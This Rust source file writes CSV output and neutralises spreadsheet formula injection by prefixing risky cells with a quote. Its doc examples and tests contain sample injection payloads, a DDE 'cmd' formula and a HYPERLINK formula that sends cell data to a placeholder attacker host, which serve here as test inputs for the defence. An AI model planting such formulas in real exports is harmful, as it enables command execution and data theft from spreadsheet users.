//! The one CSV writer of sweeper: every CSV it writes (`result.csv`, `trials.csv`,
//! `sweeper score --format csv`, `sweeper front --format csv`) goes through [`write_records`],
//! which quotes with the `csv` crate and neutralises every cell against formula injection
//! ([`neutralize`]); numbers are written by [`number`], `±inf` as `inf` / `-inf` (the
//! encoding of [`sweeper_score::json_f64`]).
//!
//! ```
//! use sweeper_tables::csv_out::to_string;
//!
//! let header = ["trial".to_owned(), "note".to_owned()];
//! let rows = [vec!["0".to_owned(), "=HYPERLINK(\"http://x\")".to_owned()]];
//! assert_eq!(to_string(&header, rows), "trial,note\n0,\"'=HYPERLINK(\"\"http://x\"\")\"\n");
//! ```

use std::borrow::Cow;
use std::io;

/// `cell` made safe to open in a spreadsheet (the OWASP rule against CSV injection): text
/// starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, so that
/// no spreadsheet evaluates it as a formula. A number (`-1.5`, `1e-3`, `inf`, `-inf`) is
/// left as it is, so that it stays a number.
///
/// ```
/// use sweeper_tables::csv_out::neutralize;
///
/// assert_eq!(neutralize("=cmd|' /C calc'!A0"), "'=cmd|' /C calc'!A0");
/// assert_eq!(neutralize("-1.5"), "-1.5");
/// assert_eq!(neutralize("-inf"), "-inf");
/// assert_eq!(neutralize("lmcache"), "lmcache");
/// ```
pub fn neutralize(cell: &str) -> Cow<'_, str> {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if risky && !is_number(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// Whether a cell is a number as a spreadsheet reads it back: a decimal or exponent literal,
/// or a spelling of infinity. `NaN` is not (it would be text), nor is anything with an
/// operator in it (`-1+1`).
fn is_number(cell: &str) -> bool {
    cell.parse::<f64>().is_ok_and(|x| !x.is_nan())
}

/// A number as a CSV cell: the shortest text that reads back to the same `f64`, and `inf` /
/// `-inf` for the infinities (the one encoding of [`sweeper_score::json_f64`]).
///
/// ```
/// use sweeper_tables::csv_out::number;
///
/// assert_eq!(number(0.1 + 0.2), "0.30000000000000004");
/// assert_eq!(number(f64::NEG_INFINITY), "-inf");
/// ```
pub fn number(x: f64) -> String {
    let mut text = String::new();
    push_number(&mut text, x);
    text
}

/// [`number`] appended to `out`: a table of millions of numbers formats each into a buffer
/// it reuses. A finite number is written as JSON writes it (the same digits as
/// `serde_json::Value::Number`'s text).
pub fn push_number(out: &mut String, x: f64) {
    use std::fmt::Write as _;
    match serde_json::Number::from_f64(x) {
        Some(n) => {
            let _ = write!(out, "{n}");
        }
        None => {
            if let serde_json::Value::String(name) = sweeper_score::json_f64::to_value(x) {
                out.push_str(&name);
            }
        }
    }
}

/// A JSON value as a CSV cell: nothing for a missing value or `null`, a string as its text,
/// a number as JSON writes it, anything else (a boolean, an array, an object) as JSON text.
pub fn value(v: Option<&serde_json::Value>) -> String {
    match v {
        None | Some(serde_json::Value::Null) => String::new(),
        Some(serde_json::Value::String(s)) => s.clone(),
        Some(other) => other.to_string(),
    }
}

/// Writes `header` and then `rows` as CSV to `out`, every cell [`neutralize`]d. Rows may be
/// shorter or longer than the header (nothing checks it); a write error keeps its I/O kind,
/// so that a closed pipe stays a closed pipe.
pub fn write_records<W, R, C>(out: W, header: &[String], rows: R) -> io::Result<()>
where
    W: io::Write,
    R: IntoIterator<Item = C>,
    C: IntoIterator,
    C::Item: AsRef<str>,
{
    let mut w = csv::WriterBuilder::new().flexible(true).from_writer(out);
    w.write_record(header.iter().map(|h| neutralize(h).into_owned()))
        .map_err(csv_io)?;
    for row in rows {
        w.write_record(row.into_iter().map(|c| neutralize(c.as_ref()).into_owned()))
            .map_err(csv_io)?;
    }
    w.flush()
}

/// [`write_records`] into a string.
pub fn to_string<R, C>(header: &[String], rows: R) -> String
where
    R: IntoIterator<Item = C>,
    C: IntoIterator,
    C::Item: AsRef<str>,
{
    let mut bytes = Vec::new();
    // Writing to memory fails only when memory does; a record of any length is accepted.
    write_records(&mut bytes, header, rows).expect("CSV written to memory");
    // Every cell was a `&str`, and the writer adds only ASCII.
    String::from_utf8(bytes).expect("CSV of UTF-8 cells is UTF-8")
}

/// A CSV error as an I/O error, keeping the underlying I/O error when there is one.
fn csv_io(e: csv::Error) -> io::Error {
    match e.into_kind() {
        csv::ErrorKind::Io(e) => e,
        other => io::Error::other(format!("{other:?}")),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_get_a_leading_quote() {
        for (cell, safe) in [
            ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
            (
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
                "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            ),
            ("+x", "'+x"),
            ("-x", "'-x"),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("-1+1", "'-1+1"),
            ("-nan", "'-nan"),
            ("+", "'+"),
        ] {
            assert_eq!(neutralize(cell), safe, "{cell:?}");
        }
    }

    #[test]
    fn numbers_are_written_as_json_writes_them() {
        // bit patterns from a small generator: every exponent, both signs, subnormals
        let mut state = 0x9e37_79b9_7f4a_7c15_u64;
        let mut values = vec![0.0, -0.0, 1.0, 0.1 + 0.2, 1e300, 5e-324, f64::MAX, f64::MIN];
        for _ in 0..20_000 {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            values.push(f64::from_bits(state));
        }
        let mut buffer = String::from("x");
        for x in values.into_iter().filter(|x| x.is_finite()) {
            let json = serde_json::Value::from(x).to_string();
            assert_eq!(number(x), json, "{x:e}");
            buffer.truncate(1);
            push_number(&mut buffer, x);
            assert_eq!(buffer[1..], json);
        }
        assert_eq!(number(f64::INFINITY), "inf");
        assert_eq!(number(f64::NEG_INFINITY), "-inf");
    }

    #[test]
    fn numbers_and_plain_text_are_untouched() {
        for cell in [
            "-1.5", "-inf", "inf", "+3", "-0", "1e-3", "-2.5e10", "0", "", "lmcache", "a=b",
            "tp 4", "'=x",
        ] {
            assert_eq!(neutralize(cell), cell, "{cell:?}");
            assert!(matches!(neutralize(cell), Cow::Borrowed(_)), "{cell:?}");
        }
    }

    #[test]
    fn numbers_use_the_one_encoding_of_infinity() {
        assert_eq!(number(1.0), "1.0");
        assert_eq!(number(-1.5), "-1.5");
        assert_eq!(number(1e300), "1e+300");
        assert_eq!(number(f64::INFINITY), "inf");
        assert_eq!(number(f64::NEG_INFINITY), "-inf");
        assert_eq!(value(Some(&serde_json::json!("-inf"))), "-inf");
        assert_eq!(value(Some(&serde_json::json!(4))), "4");
        assert_eq!(value(Some(&serde_json::Value::Null)), "");
        assert_eq!(value(None), "");
        assert_eq!(value(Some(&serde_json::json!(true))), "true");
    }

    #[test]
    fn cells_are_quoted_by_the_csv_crate_and_neutralised() {
        let header = ["a".to_owned(), "=b".to_owned()];
        let rows = [
            vec!["x,y", "say \"hi\""],
            vec!["line\nbreak", "-inf"],
            vec!["=cmd|' /C calc'!A0", "-1.5"],
        ];
        assert_eq!(
            to_string(&header, rows),
            "a,'=b\n\"x,y\",\"say \"\"hi\"\"\"\n\"line\nbreak\",-inf\n'=cmd|' /C calc'!A0,-1.5\n"
        );
    }

    #[test]
    fn read_back_by_a_csv_reader_gives_the_neutralised_cells() {
        let header = ["note".to_owned()];
        let text = to_string(&header, [["\r@x\n\"y\""]]);
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let record = reader.records().next().unwrap().unwrap();
        assert_eq!(&record[0], "'\r@x\n\"y\"");
    }
}
